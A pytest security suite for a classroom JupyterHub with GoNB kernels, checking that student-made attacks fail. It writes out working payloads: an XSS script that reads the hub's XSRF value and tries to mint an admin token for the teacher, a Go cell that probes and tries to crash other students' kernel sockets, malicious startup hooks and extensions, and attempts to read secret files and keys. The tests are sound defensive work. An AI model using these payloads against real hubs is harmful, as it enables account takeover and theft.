"""Attacks on the classroom hub, made the way a student would make them: from a student's
own GoNB cell, from files in their own home, from their own browser, and by luring the
teacher to a page of theirs. Real JupyterHub, real Unix users, the teacher in Chromium.

Each test asserts the attack got nothing, and has a control that shows the attack is live
(the same payload does run where it is harmless: in the student's own browser, on their
own origin). The catalogue (docs/admins/security.md, "What is isolated"):

- kernels: another student's kernel is reached through no TCP port and no socket (it
  listens on Unix sockets in its student's 0700 runtime folder): no subscribing to its
  output, no malformed ZeroMQ frame that would crash GoNB (FromWireMsg panics on one);
- the teacher's session: a trusted notebook with a <script>, an HTML file and a page under
  /user/NAME/ never load in the teacher's browser on the hub's origin (the teacher has no
  access to students' servers; they see students' work in the class view); the script
  that would create an admin token never runs; with subdomains (CLASSROOM_SUBDOMAIN_HOST)
  the teacher may open a student's server, and the same script, running on the student's
  own origin, can neither read a hub page nor create a token;
- the student's own server: ~/.jupyter config, user site-packages and JupyterLab
  extensions in their home are not loaded;
- the hub: sign-ups named like the server's own accounts are refused with a message; the
  hub's and the relay's state files are 0600; a crashed kernel's GoNB folder is removed;
- other students: their servers, files, hub records and tokens stay out of reach.

Needs root (CI runs as root).
"""
import json
import os
import pwd
import re
import shutil
import signal
import subprocess
import tempfile
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from http.cookiejar import CookieJar
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from harness.axe import run_axe
from harness.classroom import (Hub, Kernel, Names, NoRedirect, as_user, browser_login, http, install, pids_of,
                               proc_read, remove_stale_users, remove_users)
from harness.upstream import FakeUpstream

if os.geteuid() != 0:
    pytest.skip("the classroom attack tests need root: they create real Unix users (CI runs as root)",
                allow_module_level=True)

INSTALL = os.environ.get("CLASSROOM_TEST_DIR", "/opt/golessons-test")
NAMES = Names("a")
STUDENTS = {k: NAMES.student(n) for k, n in (("a", "ada"), ("b", "bob"), ("c", "cy"))}
EVIL = "EVIL-PAGE-OF-A-STUDENT"


class Beacon:
    """An HTTP server on 127.0.0.1 that records every request a page's script makes to it:
    the proof that a script ran, and what it managed to do."""

    def __init__(self):
        self.hits = []
        beacon = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                q = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)
                beacon.hits.append({k: v[0] for k, v in q.items()})
                self.send_response(204)
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hit"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


def evil_script(beacon, hub_origin, teacher):
    """A student's script: report that it ran, read the hub's token page for its XSRF value,
    then ask the hub for a new API token of the teacher's (an admin's)."""
    return f"""<script>
(async () => {{
  const ping = what => {{ new Image().src = {json.dumps(beacon)} + "?what=" + encodeURIComponent(what) +
    "&where=" + encodeURIComponent(location.href); }};
  ping("ran");
  try {{
    const page = await (await fetch({json.dumps(hub_origin)} + "/hub/token", {{credentials: "include"}})).text();
    const xsrf = (page.match(/_xsrf[^A-Za-z0-9]+([A-Za-z0-9|:_=-]{{8,}})/) || [])[1] || "";
    ping("read-hub-page:" + (xsrf ? "with-xsrf" : "no-xsrf"));
    const r = await fetch({json.dumps(hub_origin)} + "/hub/api/users/{teacher}/tokens", {{
      method: "POST", credentials: "include", body: JSON.stringify({{note: "pwned"}}),
      headers: {{"X-XSRFToken": xsrf, "Content-Type": "application/json"}}}});
    ping("token:" + r.status);
  }} catch (e) {{ ping("blocked:" + e); }}
}})();
</script><h1>{EVIL}</h1>"""


def write_as(name, path, text):
    """Write text to path as the Unix user name (their folders made as needed), as a cell of
    theirs could."""
    pw = pwd.getpwnam(name)
    p = subprocess.run(["setpriv", f"--reuid={pw.pw_uid}", f"--regid={pw.pw_gid}", "--init-groups", "--",
                        "/bin/sh", "-c", 'mkdir -p "$(dirname "$1")" && cat > "$1"', "sh", path],
                       input=text, text=True, capture_output=True)
    assert p.returncode == 0, p.stderr


def plant_evil_files(name, script):
    """As the student: an HTML file and a notebook whose output holds the script, trusted
    with `jupyter trust` (as a cell of theirs could run it)."""
    home = pwd.getpwnam(name).pw_dir
    nb = {"nbformat": 4, "nbformat_minor": 5, "metadata": {},
          "cells": [{"cell_type": "code", "id": "evil", "metadata": {}, "execution_count": 1, "source": "1",
                     "outputs": [{"output_type": "display_data", "metadata": {},
                                  "data": {"text/html": script, "text/plain": EVIL}}]}]}
    write_as(name, os.path.join(home, "evil.html"), script)
    write_as(name, os.path.join(home, "evil.ipynb"), json.dumps(nb))
    p = as_user(name, os.path.join(INSTALL, "venv", "bin", "jupyter"), "trust", os.path.join(home, "evil.ipynb"))
    assert p.returncode == 0 and re.search(r"Signing notebook|already signed", p.stdout + p.stderr), p.stdout + p.stderr


def visit(page, url, settle=3.0):
    """Open url; the HTTP status of the page it ended on and its text, after a moment for
    any script to run."""
    status = None
    try:
        r = page.goto(url, timeout=60_000)
        status = r.status if r else None
        if "/hub/api/oauth2/authorize" in page.url:  # the hub asks to confirm: say yes
            with page.expect_navigation(timeout=60_000) as nav:
                page.click("form input[type=submit], form button[type=submit]")
            status = nav.value.status if nav.value else None
    except Exception as e:  # a download, or an aborted navigation: nothing rendered
        return None, str(e)
    time.sleep(settle)
    return status, page.inner_text("body") if page.query_selector("body") else ""


def teacher_tokens(hub):
    """The teacher's API tokens that are not a login's (OAuth) tokens: those a script with
    the teacher's session would create."""
    status, r = hub.api("GET", f"/users/{NAMES.teacher}/tokens")
    assert status == 200, (status, r)
    return sorted((t["id"], t.get("note")) for t in r["api_tokens"] if not t.get("oauth_client"))


def make_hub(tmp, artifacts, name, upstream_url="http://127.0.0.1:9/v1", extra_env=None, subdomain_host=None):
    return Hub(tmp, os.path.join(artifacts, name), INSTALL, NAMES, {"upstream": {"base_url": upstream_url}},
               extra_env=extra_env, subdomain_host=subdomain_host)


@pytest.fixture(scope="module")
def attack(artifacts):
    remove_stale_users(INSTALL, "a")
    install(INSTALL)
    tmp = tempfile.mkdtemp(prefix="classroom-attack-")
    beacon = Beacon()
    upstream = FakeUpstream("FAKE-UPSTREAM answers.", pieces=3, gap=0.01)
    hub = None
    try:
        # Ended kernels' folders are looked for every 2 s (30 s in a class).
        hub = make_hub(tmp, artifacts, "classroom-attacks-hub.log", upstream_url=upstream.url,
                       extra_env={"CLASSROOM_KERNEL_SWEEP_EVERY": "2"})
        passwords = hub.add_students(STUDENTS.values())
        for name in STUDENTS.values():
            hub.start_server(name)
        tokens = {k: hub.token_for(n) for k, n in STUDENTS.items()}
        yield {"hub": hub, "beacon": beacon, "upstream": upstream, "passwords": passwords, "tokens": tokens,
               "tmp": tmp, "kernels": {}}
    finally:
        if hub is not None:
            hub.stop()
        beacon.stop()
        upstream.stop()
        remove_users(list(STUDENTS.values()) + [NAMES.teacher, NAMES.relay_user], NAMES.group)
        remove_users([], NAMES.relay_user)
        shutil.rmtree(tmp, ignore_errors=True)


def kernel(attack, key):
    if key not in attack["kernels"]:
        k = Kernel(attack["hub"], STUDENTS[key], attack["tokens"][key])
        out, err, _ = k.execute('%%\nfmt.Println("ready", os.Getpid())')
        assert err is None and "ready" in out, out
        attack["kernels"][key] = k
    else:  # the server closes a websocket that has been quiet for 90 s
        attack["kernels"][key].connect()
    return attack["kernels"][key]


def tcp_listeners(uid):
    """The TCP ports uid's processes listen on (from /proc/net/tcp and tcp6)."""
    ports = set()
    for path in ("/proc/net/tcp", "/proc/net/tcp6"):
        with open(path) as f:
            for line in f.readlines()[1:]:
                cols = line.split()
                if cols[3] == "0A" and int(cols[7]) == uid:
                    ports.add(int(cols[1].rsplit(":", 1)[1], 16))
    return ports


def gonb_pids(uid):
    return [p for p in pids_of(uid) if proc_read(p, "comm").strip() == b"gonb"]


# A student's cell attacking another student's kernels: every 127.0.0.1 TCP port and every
# Unix socket of theirs it can find, a subscription to IOPub (ZeroMQ SUB, which needs no
# key) and a malformed frame (no <IDS|MSG>: GoNB v0.11.5 panics on it) on each.
ATTACK_CELL = r'''%%
victim := VICTIM_UID
greeting := append([]byte{0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0x7f, 3, 0}, []byte("NULL")...)
greeting = append(greeting, make([]byte, 16+1+31)...)
ready := func(kind string) []byte {
	body := append([]byte("\x05READY\x0bSocket-Type\x00\x00\x00"), byte(len(kind)))
	body = append(body, kind...)
	return append([]byte{0x04, byte(len(body))}, body...)
}
try := func(network, addr string) {
	c, err := net.DialTimeout(network, addr, 2*time.Second)
	if err != nil {
		fmt.Printf("refused %s %s: %v\n", network, addr, err)
		return
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(2 * time.Second))
	c.Write(greeting)
	c.Write(ready("DEALER"))
	c.Write([]byte{0x00, 0x01, 'x'}) // one frame, no <IDS|MSG>
	sub, err := net.DialTimeout(network, addr, 2*time.Second)
	if err == nil {
		sub.SetDeadline(time.Now().Add(2 * time.Second))
		sub.Write(greeting)
		sub.Write(ready("SUB"))
		sub.Write([]byte{0x00, 0x01, 0x01}) // subscribe to everything
		buf := make([]byte, 4096)
		n, _ := sub.Read(buf)
		fmt.Printf("CONNECTED %s %s, read %d bytes\n", network, addr, n)
		sub.Close()
	}
}
for _, path := range []string{"/proc/net/tcp", "/proc/net/tcp6"} {
	data, _ := os.ReadFile(path)
	for _, line := range strings.Split(string(data), "\n")[1:] {
		f := strings.Fields(line)
		if len(f) > 7 && f[3] == "0A" && f[7] == strconv.Itoa(victim) {
			port, _ := strconv.ParseInt(f[1][strings.LastIndex(f[1], ":")+1:], 16, 32)
			try("tcp", fmt.Sprintf("127.0.0.1:%d", port))
		}
	}
}
data, _ := os.ReadFile("/proc/net/unix")
for _, line := range strings.Split(string(data), "\n") {
	f := strings.Fields(line)
	if len(f) == 8 && strings.Contains(f[7], "/kernel-") && !strings.HasPrefix(f[7], os.Getenv("JUPYTER_RUNTIME_DIR")+"/") {
		try("unix", f[7])
	}
}
_, err := os.ReadDir(VICTIM_RUNTIME)
fmt.Println("runtime folder:", err)
fmt.Println("attack done")
'''


def test_kernels_listen_on_no_port_and_no_socket_another_student_can_open(attack):
    """Bob's cell finds Ada's kernel and tries to subscribe to it and crash it: it reaches
    no TCP port of hers but her server's, and none of her kernel's sockets; her kernel
    keeps running (the same process) and answers."""
    hub = attack["hub"]
    ada, bob = STUDENTS["a"], STUDENTS["b"]
    ka = kernel(attack, "a")
    kernel(attack, "b")
    uid = pwd.getpwnam(ada).pw_uid
    runtime = os.path.join(hub.state, "run", str(uid))
    # Her server's port only: the kernel has no TCP port at all.
    assert tcp_listeners(uid) == {20000 + uid % 12000}, tcp_listeners(uid)  # her server's
    st = os.stat(runtime)
    assert st.st_uid == uid and st.st_mode & 0o777 == 0o700, oct(st.st_mode)
    socks = [f for f in os.listdir(runtime) if re.match(r"kernel-.*-ipc-\d$", f)]
    assert len(socks) == 5, os.listdir(runtime)
    before = gonb_pids(uid)
    assert before, "Ada's kernel is not running"
    cell = ATTACK_CELL.replace("VICTIM_UID", str(uid)).replace("VICTIM_RUNTIME", json.dumps(runtime))
    out, err, _ = kernel(attack, "b").execute(cell)
    assert err is None and "attack done" in out, out
    server_port = 20000 + uid % 12000
    connected = re.findall(r"CONNECTED (\S+ [^,\s]+)", out)
    assert connected == [f"tcp 127.0.0.1:{server_port}"], out  # her server (HTTP, behind its login) only
    assert out.count("refused unix") >= 5 and "permission denied" in out, out
    assert re.search(r"runtime folder: open .*permission denied", out), out
    # Her kernel is the same process, and answers.
    time.sleep(1)
    assert gonb_pids(uid) == before
    out, err, _ = ka.execute('%%\nfmt.Println("still", 6*7)')
    assert err is None and "still 42" in out, out
    # Bob's own kernel, too, listens on no TCP port.
    assert tcp_listeners(pwd.getpwnam(bob).pw_uid) == {20000 + pwd.getpwnam(bob).pw_uid % 12000}


def test_teacher_never_loads_a_students_page(attack, artifacts):
    """Ada plants a trusted notebook and an HTML file whose script would create a token of
    the teacher's; the teacher, logged in, is sent to each of her pages: the hub refuses
    them all (403), no script runs, no token is created. Control: the same script runs in
    Ada's own browser."""
    from playwright.sync_api import sync_playwright

    from harness.lab import launch

    hub, beacon, pw = attack["hub"], attack["beacon"], attack["passwords"]
    ada = STUDENTS["a"]
    plant_evil_files(ada, evil_script(beacon.url, "", NAMES.teacher))
    tokens_before = teacher_tokens(hub)
    pages = [f"/user/{ada}/files/evil.html", f"/user/{ada}/lab/tree/evil.ipynb", f"/user/{ada}/notebooks/evil.ipynb",
             f"/user/{ada}/tree/", f"/user/{ada}/view/evil.html", f"/user/{ada}/lab"]
    with sync_playwright() as p:
        browser = launch(p)
        try:
            teacher = browser.new_context().new_page()
            browser_login(teacher, hub.url, NAMES.teacher, pw[NAMES.teacher])
            for path in pages:
                status, text = visit(teacher, hub.url + path)
                assert EVIL not in text, (path, text[:500])
                assert status in (403, 404, None), (path, status, text[:500])
            teacher.screenshot(path=os.path.join(artifacts, "classroom-attack-teacher-403.png"))
            assert beacon.hits == [], beacon.hits
            assert teacher_tokens(hub) == tokens_before
            # Bob, another student, gets nothing either.
            bob = browser.new_context().new_page()
            browser_login(bob, hub.url, STUDENTS["b"], pw[STUDENTS["b"]])
            for path in pages[:2]:
                status, text = visit(bob, hub.url + path)
                assert EVIL not in text and status in (403, 404, None), (path, status)
            assert beacon.hits == [], beacon.hits
            # Control: in Ada's own browser the script runs (on her own session: harmless).
            own = browser.new_context().new_page()
            browser_login(own, hub.url, ada, pw[ada])
            status, text = visit(own, hub.url + pages[0])
            assert status == 200 and EVIL in text, (status, text[:300])
            deadline = time.time() + 10
            while not any(h.get("what", "").startswith("token:") for h in beacon.hits) and time.time() < deadline:
                time.sleep(0.2)
            assert any(h.get("what") == "ran" for h in beacon.hits), beacon.hits
        finally:
            browser.close()
    assert teacher_tokens(hub) == tokens_before


def test_students_server_reads_nothing_from_their_home(attack):
    """Ada writes a server config, a Python startup hook and a JupyterLab extension in her
    home, and restarts her server: none of them is loaded."""
    hub = attack["hub"]
    ada = STUDENTS["a"]
    home = pwd.getpwnam(ada).pw_dir
    marker = os.path.join(home, "LOADED")
    hook = f"open({marker!r}, 'a').write(__file__ + '\\n')\n"
    py = sorted(os.listdir(os.path.join(INSTALL, "venv", "lib")))[0]  # python3.X, as the server's
    site = os.path.join(home, ".local", "lib", py, "site-packages")
    files = {
        ".jupyter/jupyter_server_config.py": hook,
        ".jupyter/jupyter_config.py": hook,
        ".jupyter/jupyter_notebook_config.py": hook,
        f".local/lib/{py}/site-packages/usercustomize.py": hook,
        f".local/lib/{py}/site-packages/evil.pth": f"import os; open({marker!r}, 'a').write('pth\\n')\n",
        ".local/share/jupyter/labextensions/evil-ext/package.json": json.dumps(
            {"name": "evil-ext", "version": "1.0.0", "jupyterlab": {"_build": {"load": "static/remoteEntry.js"}}}),
        ".local/share/jupyter/labextensions/evil-ext/static/remoteEntry.js": "window.__pwned = 1;\n",
    }
    for rel, text in files.items():
        write_as(ada, os.path.join(home, rel), text)
    assert os.path.isdir(site)
    attack["kernels"].pop("a", None)
    hub.stop_server(ada)
    hub.start_server(ada)
    status, page = http("GET", f"{hub.url}/user/{ada}/lab", attack["tokens"]["a"])
    assert status == 200 and "federated_extensions" in page, (status, page[:300])
    assert "evil-ext" not in page
    assert not os.path.exists(marker), open(marker).read()


def test_signup_refuses_the_servers_own_accounts(attack):
    """A sign-up named like an account of the server (root, daemon, nobody, the relay's
    user) is refused with a message that says why; none becomes a hub user."""
    from playwright.sync_api import sync_playwright

    from harness.lab import launch

    hub = attack["hub"]
    with sync_playwright() as p:
        browser = launch(p)
        try:
            page = browser.new_context().new_page()
            for name in ("root", "daemon", "nobody", NAMES.relay_user):
                page.goto(hub.url + "/hub/signup")
                page.fill("#username_input", name)
                page.fill("#password_input", "a-Long-pass-1234")
                page.fill("#password_confirmation_input", "a-Long-pass-1234")
                page.click("#signup_submit")
                page.wait_for_load_state()
                text = page.inner_text("body")
                assert "belongs to an account of this server" in text, (name, text[:1000])
                status, _ = hub.api("GET", f"/users/{name}")
                assert status == 404, (name, status)
        finally:
            browser.close()


def password_logs_in(hub, user, password):
    """Whether the hub's login form takes user's password (a redirect away from the login)."""
    jar = CookieJar()
    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar), NoRedirect)
    opener.open(hub.url + "/hub/login", timeout=30).read()
    xsrf = next((c.value for c in jar if c.name == "_xsrf"), "")
    req = urllib.request.Request(hub.url + "/hub/login", headers={"X-XSRFToken": xsrf},
                                 data=urllib.parse.urlencode({"username": user, "password": password, "_xsrf": xsrf}).encode())
    try:
        with opener.open(req, timeout=30) as r:
            code, location = r.status, r.headers.get("Location", "")
    except urllib.error.HTTPError as e:
        code, location = e.code, e.headers.get("Location", "")
    return code == 302 and "/hub/login" not in location


def test_a_forgotten_password_gets_a_new_card(attack):
    """accounts.py reset NAME (docs/admins/classroom.md: a forgotten password): a new first-time password on a
    new card; the old one no longer logs in, the new one does."""
    hub, cy = attack["hub"], STUDENTS["c"]
    old = attack["passwords"][cy]
    hub.accounts("reset", cy, "--url", hub.url + "/")
    cards = json.load(open(os.path.join(hub.state, "hub", "first-passwords.json")))
    new = cards[cy]["password"]
    assert new != old and new in open(os.path.join(hub.state, "hub", "login-cards.html")).read()
    assert not password_logs_in(hub, cy, old)
    assert password_logs_in(hub, cy, new)
    attack["passwords"][cy] = new


def test_state_files_are_private(attack):
    """Every file of the hub's and the relay's state is its owner's only (0600), the
    database and the cookie secret among them."""
    hub = attack["hub"]
    seen = []
    for top in ("hub", "relay"):
        for d, dirs, files in os.walk(os.path.join(hub.state, top)):
            assert os.stat(d).st_mode & 0o077 == 0, (d, oct(os.stat(d).st_mode))
            for f in files:
                path = os.path.join(d, f)
                assert os.lstat(path).st_mode & 0o077 == 0, (path, oct(os.lstat(path).st_mode))
                seen.append(f)
    assert {"jupyterhub.sqlite", "jupyterhub_cookie_secret", "relay.json"} <= set(seen), seen


def test_a_crashed_kernels_folder_is_removed(attack):
    """Cy's kernel is killed (as the memory limit or a crash would): its GoNB folder in the
    temporary folder is removed while her server runs; her other kernel's stays."""
    cy = STUDENTS["c"]
    uid = pwd.getpwnam(cy).pw_uid
    k1, k2 = Kernel(attack["hub"], cy, attack["tokens"]["c"]), Kernel(attack["hub"], cy, attack["tokens"]["c"])
    dirs = []
    for k in (k1, k2):
        out, err, _ = k.execute('%%\nfmt.Println("dir=" + os.Getenv("GONB_TMP_DIR"))')
        assert err is None, out
        dirs.append(re.search(r"dir=(\S+)", out).group(1))
    for d in dirs:
        assert os.stat(d).st_uid == uid and os.path.exists(os.path.join(d, ".golessons-kernel")), d
    pid = int(open(os.path.join(dirs[0], ".golessons-kernel")).read().split()[0])
    os.kill(pid, signal.SIGKILL)
    deadline = time.time() + 30
    while os.path.exists(dirs[0]) and time.time() < deadline:
        time.sleep(0.5)
    assert not os.path.exists(dirs[0]), "the killed kernel's folder is still there"
    assert os.path.exists(dirs[1])
    out, err, _ = k2.execute('%%\nfmt.Println("alive")')
    assert "alive" in out
    k1.close()
    k2.close()


def test_students_cells_reach_no_one_elses_records(attack):
    """Bob's cell, with his own server's token, asks the hub for the users, a token of
    Cy's, and Cy's server; and reads the hub's and relay's state: all refused."""
    hub = attack["hub"]
    cy = STUDENTS["c"]
    state = hub.state
    cell = f'''%%
tok := os.Getenv("JUPYTERHUB_API_TOKEN")
get := func(method, url string) {{
	req, _ := http.NewRequest(method, url, strings.NewReader(`{{"note": "x"}}`))
	req.Header.Set("Authorization", "token "+tok)
	r, err := http.DefaultClient.Do(req)
	if err != nil {{
		fmt.Println(method, url, "error", err)
		return
	}}
	r.Body.Close()
	fmt.Println(method, url, r.StatusCode)
}}
api := os.Getenv("JUPYTERHUB_API_URL")
get("GET", api+"/users")
get("GET", api+"/users/{cy}")
get("POST", api+"/users/{cy}/tokens")
get("GET", "http://127.0.0.1:{20000 + pwd.getpwnam(cy).pw_uid % 12000}/user/{cy}/api/contents")
for _, p := range []string{{"{state}/hub/jupyterhub.sqlite", "{state}/relay/state/usage.json", "{state}/relay/openrouter.key", "{state}/relay/relay.json"}} {{
	_, err := os.ReadFile(p)
	fmt.Println("read", p, err)
}}
'''
    out, err, _ = kernel(attack, "b").execute(cell)
    assert err is None, out
    for line in out.splitlines():
        if line.startswith(("GET", "POST")):
            assert line.rsplit(" ", 1)[1] in ("403", "404", "401", "302"), line
        if line.startswith("read "):
            assert "permission denied" in line or "no such file" in line, line


# Requests a student's cell could send the class relay to spend the teacher's key on other
# models or paid features: each must be refused (400) and never reach the AI provider.
MODEL = "openai/gpt-oss-120b:free"
MSGS = [{"role": "user", "content": "hi"}]
REFUSED_BODIES = [
    {"model": MODEL, "messages": MSGS, "models": ["openai/gpt-5", "anthropic/claude-opus-4"]},
    {"model": MODEL, "messages": MSGS, "route": "fallback"},
    {"model": MODEL, "messages": MSGS, "provider": {"order": ["OpenAI"], "allow_fallbacks": True}},
    {"model": MODEL, "messages": MSGS, "plugins": [{"id": "web", "max_results": 20}]},
    {"model": MODEL, "messages": MSGS, "transforms": ["middle-out"]},
    {"model": MODEL, "messages": MSGS, "web_search_options": {"search_context_size": "high"}},
    {"model": MODEL, "messages": MSGS, "reasoning": {"max_tokens": 100000}},
    {"model": MODEL, "messages": MSGS, "n": 8},
    {"model": MODEL, "messages": [{"role": "user", "content": [
        {"type": "image_url", "image_url": {"url": "https://example.org/big.png"}}]}]},
    {"model": MODEL, "messages": [{"role": "user", "content": "hi", "models": ["openai/gpt-5"]}]},
    {"Model": "openai/gpt-5", "model": MODEL, "messages": MSGS},
]
# Raw bodies JSON cannot express as a dict: a duplicate key, an escaped name.
REFUSED_RAW = [
    '{"model": "%s", "messages": [{"role": "user", "content": "hi"}], "model": "openai/gpt-5"}' % MODEL,
    '{"model": "%s", "messages": [{"role": "user", "content": "hi"}], "\\u006dodels": ["openai/gpt-5"]}' % MODEL,
    '{"MODEL": "openai/gpt-5", "messages": [{"role": "user", "content": "hi"}]}',
]

RELAY_CELL = r"""%%
var bodies []string
if err := json.Unmarshal([]byte(`BODIES`), &bodies); err != nil {
	panic(err)
}
for i, b := range bodies {
	req, _ := http.NewRequest("POST", os.Getenv("OPENAI_BASE_URL")+"/chat/completions", strings.NewReader(b))
	req.Header.Set("Authorization", "Bearer "+os.Getenv("JUPYTERHUB_API_TOKEN"))
	req.Header.Set("Content-Type", "application/json")
	r, err := http.DefaultClient.Do(req)
	if err != nil {
		fmt.Println("request", i, "error", err)
		continue
	}
	data, _ := io.ReadAll(r.Body)
	r.Body.Close()
	fmt.Printf("request %d status %d %s\n", i, r.StatusCode, strings.Join(strings.Fields(string(data)), " "))
}
"""


def test_relay_forwards_only_what_it_checked(attack):
    """Bob's cell asks the relay for other models (models, route, provider, a duplicate or
    case-changed model), paid features (plugins, web search, reasoning budgets, images,
    n > 1): each is refused with a 400 that names the field, and the AI provider receives
    none of them. Control: the lesson's kind of request goes through, as checked."""
    up = attack["upstream"]
    bodies = [json.dumps(b) for b in REFUSED_BODIES] + REFUSED_RAW
    control = json.dumps({"model": MODEL, "messages": MSGS, "stream": False, "max_tokens": 50})
    before = len(up.bodies)
    out, err, _ = kernel(attack, "b").execute(RELAY_CELL.replace("BODIES", json.dumps(bodies + [control])))
    assert err is None, out
    lines = re.findall(r"request (\d+) status (\d+) (.*)", out)
    assert len(lines) == len(bodies) + 1, out
    for i, status, text in lines[:-1]:
        assert status == "400", (bodies[int(i)], status, text)
    assert lines[-1][1] == "200" and "FAKE-UPSTREAM" in lines[-1][2], lines[-1]
    got = up.bodies[before:]
    assert len(got) == 1, got  # the control only
    assert set(got[0]) <= {"model", "messages", "stream", "max_tokens"}, got[0]


def serve_without_csp(route):
    """A Playwright route handler: the page as the server sends it, but its CSP."""
    r = route.fetch()
    route.fulfill(response=r, headers={k: v for k, v in r.headers.items() if k.lower() != "content-security-policy"})


def test_teacher_reads_a_students_notebook_in_the_class_view_and_nothing_runs(attack, artifacts):
    """The teacher opens Ada's trusted notebook with the hostile script in the class view:
    its outputs show as text, under a sandboxing CSP, no script runs, and axe-core finds
    nothing on the page."""
    from playwright.sync_api import sync_playwright

    from harness.lab import launch

    hub, beacon, pw = attack["hub"], attack["beacon"], attack["passwords"]
    ada = STUDENTS["a"]
    plant_evil_files(ada, evil_script(beacon.url, "", NAMES.teacher))
    beacon.hits.clear()
    tokens_before = teacher_tokens(hub)
    with sync_playwright() as p:
        browser = launch(p)
        try:
            teacher = browser.new_context().new_page()
            browser_login(teacher, hub.url, NAMES.teacher, pw[NAMES.teacher])
            teacher.goto(hub.url + "/services/class-view/")
            teacher.wait_for_selector(f"a[href*='notebooks/{ada}/']", timeout=60_000)
            teacher.click(f"a[href*='notebooks/{ada}/']")
            teacher.wait_for_selector("#student-notebooks", timeout=30_000)
            with teacher.expect_navigation() as nav:
                teacher.click("#student-notebooks a[href$='evil.ipynb']")
            url, csp = teacher.url, nav.value.headers.get("content-security-policy", "")
            teacher.wait_for_selector("main#notebook", timeout=30_000)
            time.sleep(2)
            # A sandboxed page runs no script, Playwright's evaluate included: read it from outside.
            text = teacher.inner_text("main#notebook")
            teacher.screenshot(path=os.path.join(artifacts, "classroom-attack-class-view-notebook.png"), full_page=True)
            assert EVIL in text, text[:1000]  # the output's text, without its script
            assert "sandbox" in csp and "script-src" not in csp and "default-src 'none'" in csp, csp
            html = teacher.context.request.get(url).text()
            assert EVIL in html and "<script" not in html.lower() and "onerror" not in html.lower()
            # axe-core needs scripts: audit the same page, served without its CSP, in another tab.
            audit = teacher.context.new_page()
            audit.route(url, serve_without_csp)
            audit.goto(url)
            violations = run_axe(audit, artifacts, "class-view-notebook")
            assert violations == [], violations
        finally:
            browser.close()
    assert beacon.hits == [], beacon.hits
    assert teacher_tokens(hub) == tokens_before


# --- With subdomains: each student's server on an origin of its own. ---

def test_with_subdomains_a_students_script_runs_on_their_origin_only(attack, artifacts):
    """CLASSROOM_SUBDOMAIN_HOST=http://hub.localhost:PORT (Chromium resolves *.localhost to
    127.0.0.1): the teacher may open Ada's server; her script runs there, on her origin,
    and can neither read the hub's token page nor create a token of the teacher's."""
    from playwright.sync_api import sync_playwright

    from harness.lab import launch

    first = attack["hub"]
    first.stop(close=False)  # one hub at a time for these users
    tmp = tempfile.mkdtemp(prefix="classroom-subdomain-")
    hub = None
    beacon = attack["beacon"]
    beacon.hits.clear()
    try:
        hub = make_hub(tmp, artifacts, "classroom-attacks-subdomain-hub.log", subdomain_host="http://hub.localhost:{port}")
        origin = f"http://hub.localhost:{hub.port}"
        passwords = hub.add_students(STUDENTS.values())
        ada = STUDENTS["a"]
        hub.start_server(ada)
        plant_evil_files(ada, evil_script(beacon.url, origin, NAMES.teacher))
        tokens_before = teacher_tokens(hub)
        with sync_playwright() as p:
            browser = launch(p)
            try:
                teacher = browser.new_context().new_page()
                browser_login(teacher, origin, NAMES.teacher, passwords[NAMES.teacher])
                status, text = visit(teacher, f"http://{ada}.hub.localhost:{hub.port}/user/{ada}/files/evil.html",
                                     settle=2)
                deadline = time.time() + 15
                while not any(h.get("what", "").startswith(("token:", "blocked:")) for h in beacon.hits) \
                        and time.time() < deadline:
                    time.sleep(0.2)
                teacher.screenshot(path=os.path.join(artifacts, "classroom-attack-subdomain.png"))
                assert status == 200 and EVIL in text, (status, text[:500])
            finally:
                browser.close()
        whats = [h.get("what", "") for h in beacon.hits]
        assert "ran" in whats, whats  # the script ran: on Ada's origin...
        assert all(h["where"].startswith(f"http://{ada}.hub.localhost:") for h in beacon.hits), beacon.hits
        assert not any(w.startswith(("read-hub-page", "token:2")) for w in whats), whats
        assert teacher_tokens(hub) == tokens_before  # ...and got nothing of the hub's
    finally:
        if hub is not None:
            hub.stop()
        shutil.rmtree(tmp, ignore_errors=True)
